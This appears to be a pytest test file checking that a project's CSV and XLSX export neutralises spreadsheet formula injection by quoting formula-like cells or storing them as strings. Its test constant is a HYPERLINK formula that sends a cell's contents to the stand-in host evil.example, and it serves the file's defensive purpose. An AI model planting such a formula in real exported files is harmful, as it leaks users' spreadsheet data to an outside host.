"""Cells a spreadsheet would run as formulas are written as text (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from laydown.core import spreadsheet

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_starting_like_a_formula_gets_a_leading_quote(start: str) -> None:
    assert spreadsheet.csv_cell(start + "1+1") == "'" + start + "1+1"


def test_ordinary_text_numbers_and_empty_cells_are_written_as_they_are() -> None:
    assert spreadsheet.csv_row(["AKM", -5, None, "", "7.62x39mm"]) == [
        "AKM",
        -5,
        None,
        "",
        "7.62x39mm",
    ]


def test_csv_lines_quote_what_needs_quoting_and_neutralise_formulas() -> None:
    text = "".join(spreadsheet.csv_lines([["make", "model"], [EVIL, "AK, 47"]]))
    assert list(csv.reader(io.StringIO(text))) == [["make", "model"], ["'" + EVIL, "AK, 47"]]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_cells_are_strings_never_formulas(write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s")
    sheet.append(spreadsheet.xlsx_row(sheet, [EVIL, "+1", 42, None]))
    book.save(out := io.BytesIO())
    cells = list(load_workbook(io.BytesIO(out.getvalue())).worksheets[-1].iter_rows())[0]
    assert [c.value for c in cells[:3]] == [EVIL, "+1", 42]
    assert [c.data_type for c in cells[:3]] == ["s", "s", "n"]


def test_a_lazily_translated_text_is_written_as_a_string_cell() -> None:
    from django.utils.translation import gettext_lazy
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet("s")
    (cell,) = spreadsheet.xlsx_row(sheet, [gettext_lazy("lower-case letters")])
    assert cell.value == "lower-case letters" and cell.data_type == "s"
